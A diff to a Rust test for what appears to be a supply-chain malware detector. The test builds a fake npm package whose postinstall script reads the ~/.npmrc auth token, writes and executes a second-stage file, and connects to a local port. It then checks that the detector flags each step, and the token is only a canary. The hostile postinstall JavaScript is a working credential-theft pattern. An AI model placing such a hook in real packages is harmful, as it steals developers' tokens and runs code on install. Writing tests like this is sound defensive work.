@@ -67,9 +67,12 @@ fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
         "//registry.example.invalid/:_authToken=npm_CANARYcanaryCANARYcanaryCANARY0000\n",
     )
     .unwrap();
+    // Reads the token, drops a second stage into the home directory and runs it, calls out.
     let steal = format!(
-        "const fs=require('fs'),net=require('net'),os=require('os');\
+        "const fs=require('fs'),net=require('net'),os=require('os'),cp=require('child_process');\
          const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\
+         const d=os.homedir()+'/.cache/stage2';fs.mkdirSync(d,{{recursive:true}});\
+         fs.writeFileSync(d+'/run.sh','#!/bin/sh\\nexit 0\\n',{{mode:0o755}});cp.execFileSync(d+'/run.sh');\
          const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
     );
     let tgz = npm_package(
@@ -93,9 +96,14 @@ fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
 
     let findings = agent.wait_for_findings("hook, credential read and egress", |all| {
         let mine = runner.findings_of(all);
-        ["lifecycle-hook", "credential-read", "unexpected-egress"]
-            .iter()
-            .all(|r| !by_rule(&mine, r).is_empty())
+        [
+            "lifecycle-hook",
+            "credential-read",
+            "unexpected-egress",
+            "exec-of-job-written-file",
+        ]
+        .iter()
+        .all(|r| !by_rule(&mine, r).is_empty())
     });
     let mine = runner.findings_of(&findings);
     for f in &mine {
@@ -132,6 +140,13 @@ fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
     let egress = by_rule(&mine, "unexpected-egress");
     assert_eq!(egress[0]["evidence"]["port"].as_u64(), Some(port as u64));
     assert_eq!(egress[0]["hook"]["package"], "evil-pkg");
+    let stage2 = by_rule(&mine, "exec-of-job-written-file");
+    assert_eq!(stage2.len(), 1, "{stage2:?}");
+    assert!(stage2[0]["evidence"]["program"]
+        .as_str()
+        .unwrap()
+        .ends_with("/.cache/stage2/run.sh"));
+    assert_eq!(stage2[0]["severity"], "critical");
     // The canary token never reaches the logs.
     let written = std::fs::read_to_string(&agent.events_path).unwrap()
         + &std::fs::read_to_string(&agent.findings_path).unwrap();
